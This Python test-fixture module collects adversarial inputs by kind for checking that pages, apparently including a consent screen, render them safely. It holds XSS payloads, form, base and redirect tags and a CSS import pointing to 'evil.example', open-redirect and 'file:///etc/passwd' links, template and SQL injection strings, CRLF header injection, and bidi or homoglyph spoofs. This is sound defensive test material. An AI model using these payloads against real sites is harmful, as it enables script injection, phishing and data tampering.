"""Texts that somebody would register, type or send who wants a page to say or do something else.

By kind, so that a test can see to it that every page meets every kind.
"""

from itertools import product
from typing import Final

BIDI: Final = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""What turns the direction of text around, or isolates it (Unicode 9, 2)."""
ZERO_WIDTH: Final = "\u00ad\u180e\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\U000e0001\U000e0041"
CONTROLS: Final = "\x01\x08\x0b\x0c\x1b\x7f\x80\x85\x9f\u2028\u2029"
"""NUL comes nowhere near a page: the edge, Ory and the database refuse it."""
_ENDS: Final = ("", '"', "'", '">', "'>", "`>")
"""What ends an attribute and its tag, however it is quoted."""
_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<form action='https://evil.example'><button id=accept>Allow</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<input name=form_token value=x>",
)
_ATTRIBUTES: Final = (
    "onmouseover=alert(1)",
    "autofocus onfocus=alert(1)",
    "style=position:fixed;inset:0",
    "hx-get=/admin hx-trigger=load",
    "formaction=https://evil.example",
    "hidden",
    "id=accept",
)
_SCHEMES: Final = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x")
_NAMES_OF_RIGHT: Final = ("طابعة الصور", "מדפסת תמונות", "چاپگر عکس", "ܡܕܪܫܬܐ", "ދިވެހި", "ߒߞߏ")

KINDS: Final[dict[str, tuple[str, ...]]] = {
    "elements": tuple(end + element for end, element in product(_ENDS, _ELEMENTS)),
    "attributes": tuple(
        f"{end} {attribute} {rest}"
        for end, attribute in product(("", '"', "'", "`"), _ATTRIBUTES)
        for rest in ("", 'x="')[: 2 if end == '"' else 1]
    ),
    "ends of elements": tuple(
        f"{end}<b>Gone</b>"
        for end in (
            "</title>", "</textarea>", "</option></select>", "</style>", "</script>", "</p></form>",
            "</td></tr></table>", "</body></html>", "</bdi></bdi>", "</code>", "</svg>", "</a>",
        )
    ),
    "comments and declarations": (
        "<!--", "-->", "--!>", "<!-- --!><script>alert(1)</script>", "<![CDATA[", "]]>",
        "<!DOCTYPE x>",
        "<?xml version='1.0'?>", "<?php echo 1 ?>", "<!ENTITY x 'y'>", "</", "<", "<a", "&", "<//>",
    ),
    "references": (
        "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&quot; onclick=&quot;x",
        "&amp;lt;b&gt;",
        "&NewLine;&Tab;&colon;", "&ltb", "&#0;", "&#x110000;", "&#xD800;", "&nbsp;" * 40, "&notit;",
        "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cb\\x3e", "+ADw-script+AD4-",
    ),
    "links that act": tuple(
        link
        for scheme in _SCHEMES
        for link in (
            scheme, scheme.upper(), f" {scheme}", f"\x01{scheme}", scheme.replace("s", "\ts", 1),
            scheme.replace(":", "&colon;"), scheme.replace(":", "\n:"), f"\ufeff{scheme}",
        )
    ),
    "links elsewhere": (
        "//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example",
        "/\t/evil.example",
        "https:evil.example", "https:/evil.example", "http://evil.example",
        "https://a@evil.example",
        "https://photos.example.org@evil.example", "https://evil.example#photos.example.org",
        "@evil.example",
        "https://evil.example\\@photos.example.org", "https://xn--80ak6aa92e.example",
        "file:///etc/passwd",
        "https://photos.example.org%2eevil.example", "https://photos.example.org%2f.evil.example",
        "blob:https://evil.example/1", "view-source:x", "intent://x#Intent;end",
        "ftp://evil.example",
        "../../admin", "?a=b&c=d", "#accept", "mailto:x@evil.example?bcc=y", "tel:+1",
        "about:blank",
    ),
    "templates": (
        "{{7*7}}", "{{ 7 * 7 }}", "{% raw %}", "{% endraw %}", "{# gone #}", "{{ page }}",
        "{{ self._TemplateReference__context }}",
        "{% include 'login/login.html' %}", "{{ ''.__class__.__mro__ }}", "${7*7}",
        "`${alert(1)}`", "#{7*7}",
        "<%= 7*7 %>", "{{{x}}}", "{%", "%}", "{{", "}}",
    ),
    "formats": (
        "%s", "%d%%", "%(name)s", "%(app)s", "%(count)d", "%n%n%n%n", "%", "%%", "%(", "100 %",
        "{}", "{0}",
        "{name}", "{count}", "{page.status}", "{0.__class__}", "{!r}", "{", "}", "{:>99999}",
        "$name", "\\1",
    ),
    "style": (
        "expression(alert(1))", "}body{display:none}", "</style><style>*{color:red}",
        "url(javascript:alert(1))",
        "@import 'https://evil.example/x.css';", "/* ", "*/", "; background: url(//evil.example)",
        "\\3c b\\3e",
    ),
    "quotes": (
        "'", '"', "`", "\\", "\\'", '\\"', "''", '""', "' OR '1'='1", '"; DROP TABLE users; --',
        "“", "”", "«»", "‘’",
        "[]", "({})", '{"a":"b"}', "=", "a=b", "='x' ", "name= ",
    ),
    "direction": (
        *(f"{mark}photos{mark}" for mark in BIDI), *(f"invoice{mark}fdp.exe" for mark in BIDI),
        "\u2069\u202e", "\u202c" * 9, "\u2067" * 130, "\u202etxt\u202c.\u2066exe\u2069",
    ),
    "zero width": (*(f"pho{mark}tos" for mark in ZERO_WIDTH), "\u200b" * 50, "\u200d", "a\ufe0fb"),
    "controls": (
        *(f"a{mark}b" for mark in CONTROLS), "\n", "a\r\nSet-Cookie: a=b", "\r", "\t\t",
        "a\x1b[31mb",
    ),
    "long": (
        "w" * 5_000, "word " * 1_000, "W\u0301" * 2_000, "é" * 3_000, "<" * 2_000, "&" * 2_000,
        "ﷺ" * 500,
    ),
    "from right to left": tuple(
        text for name in _NAMES_OF_RIGHT
        for text in (name, f"{name} (2)", f"{name}: https://example.org")
    ),
    "emoji": (
        "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f3f3\ufe0f\u200d\U0001f308",
        "\U0001f469\u200d\U0001f680" * 20,
        "\U0001f1e9\U0001f1ea", "1\ufe0f\u20e3", "\U0001f44d\U0001f3fd", "\u2705 Verified",
        "\U0001f512", "\u200d\ufe0f",
    ),
    "lookalikes": (
        "Рhoto Printer", "раyраl.example", "Ρhoto Ρrinter", "ＰＨＯＴＯ", "𝐏𝐡𝐨𝐭𝐨", "ⓟⓗⓞⓣⓞ",
        "Phоto‐Printer", "ɡoogle",
        "﹤script﹥", "＜script＞alert(1)＜/script＞", "ʺ onclick=x", "‹b›", "admin\u0131strator",
        "ﬁle", "P̶hoto", "Z͑ͫ̓ͪa̴l̷g͟o",
        "Verified by your organisation", "Photo Printer\u00a0\u00a0\u00a0(verified)", "\u3164",
        "\u2800",
    ),
}  # fmt: skip
ALL: Final = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
"""Each once; some kinds share a text."""
